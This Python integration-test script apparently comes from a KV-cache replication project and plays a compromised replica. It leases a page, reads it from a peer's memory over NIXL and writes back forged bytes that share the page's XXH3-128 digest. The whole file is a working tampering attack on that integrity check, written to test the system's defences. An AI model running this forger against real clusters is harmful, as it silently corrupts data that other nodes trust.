"""A token holder that rewrites a leased page in a source's arena over NIXL, keeping its XXH3 digest.

``python -m tests.integration.nixl.forger JOB`` (JOB: JSON with ``endpoint``, ``token_file``,
``namespaces`` and ``page``) does what a compromised replica can: HELLO and LEASE over CURVE with
the cluster token (its own connection, raw pyzmq), load the source's NIXL description from the HELLO
reply into a bare NIXL agent, READ the page from the source's arena, compute other bytes with the
same XXH3-128 page digest (``tests/xxh3_forgery.py``; the digest's seed is the pool's namespace,
the pool and the key, all known to any peer) and WRITE them back. The lease stays held, so the
source keeps the slot for the target that reads it next. Prints one JSON line: the slot, the NIXL
states of the READ and the WRITE, and the page's bytes before and after (hex).
"""

from __future__ import annotations

import json
import secrets
import sys
import time
from pathlib import Path
from typing import Any

import numpy as np
import zmq

from kvcr.adapters.nixl.wire import decode
from kvcr.adapters.zmq.curve import Keyring
from kvcr.runner import protocol
from tests.integration.zmq.insider import _ask
from tests.xxh3_forgery import xxh3_128_second_preimage


def _nonce() -> bytes:
    return secrets.token_bytes(protocol.NONCE_BYTES)


def main() -> None:
    job = json.loads(sys.argv[1])
    context = zmq.Context()
    sock = context.socket(zmq.DEALER)
    sock.setsockopt(zmq.LINGER, 0)
    Keyring(Path(job["token_file"]).read_bytes()).configure_client(sock, 0)
    sock.connect(job["endpoint"])
    hello = _ask(sock, protocol.Hello(_nonce(), "forger", "forger", job["namespaces"]))
    assert isinstance(hello, protocol.HelloReply), hello
    pool = next(p for p in hello.pools if p.name == "kv")
    lease = _ask(sock, protocol.Lease(_nonce(), hello.session, 10_000, [(pool.pool_id, [job["page"]])]))
    assert isinstance(lease, protocol.LeaseReply) and lease.slots[0][0] >= 0, lease
    slot = lease.slots[0][0]
    description, _, _ = decode(hello.data_plane)
    regions = {r.id: r for r in description.regions}
    components = [regions[i] for i in pool.regions]

    from nixl._api import nixl_agent, nixl_agent_config

    agent = nixl_agent("forger", nixl_agent_config(enable_prog_thread=False, backends=[]))
    agent.create_backend("UCX", {"ucx_devices": "lo"})
    page = np.zeros(sum(c.piece_bytes for c in components), dtype=np.uint8)
    agent.register_memory([(page.ctypes.data, page.nbytes, 0, "")], "DRAM")
    peer: Any = agent.add_remote_agent(description.metadata)
    peer = peer.decode() if isinstance(peer, bytes) else peer

    def move(op: str) -> str:
        local, remote, offset = [], [], 0
        for c in components:
            local.append([page.ctypes.data + offset, c.piece_bytes, 0])
            remote.append([c.base + slot * c.stride, c.piece_bytes, 0])
            offset += c.piece_bytes
        mine = agent.get_xfer_descs(np.array(local, dtype=np.uint64), "DRAM")
        theirs = agent.get_xfer_descs(np.array(remote, dtype=np.uint64), "DRAM")
        xfer = agent.initialize_xfer(op, mine, theirs, peer)
        state = agent.transfer(xfer)
        give_up = time.monotonic() + 20
        while state == "PROC" and time.monotonic() < give_up:
            state = agent.check_xfer_state(xfer)
        agent.release_xfer_handle(xfer)
        return str(state)

    read = move("READ")
    original = page.tobytes()
    key = f"{pool.namespace}#{pool.name}#{job['page']}".encode()  # the digest's seed, as every peer can form it
    forged = xxh3_128_second_preimage(key + original, start=len(key))[len(key) :]
    page[:] = np.frombuffer(forged, dtype=np.uint8)
    written = move("WRITE")
    answer = {"slot": slot, "read": read, "write": written, "original": original.hex(), "forged": forged.hex()}
    print(json.dumps(answer), flush=True)
    sock.close()
    context.term()


if __name__ == "__main__":
    main()
